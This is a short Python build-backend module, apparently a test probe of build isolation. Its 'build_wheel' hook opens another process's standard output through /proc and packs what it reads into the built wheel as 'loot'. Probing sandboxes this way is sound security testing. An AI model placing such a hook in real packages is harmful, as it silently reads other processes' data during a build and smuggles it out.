"""Opens the standard output of a planted process through its entry in /proc."""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("reopen"):
        with open(f"/proc/{kit.find('holder')}/fd/1", "rb") as ledger:
            loot["data.bin"] = ledger.read()
    return kit.wheel(wheel_directory, loot)
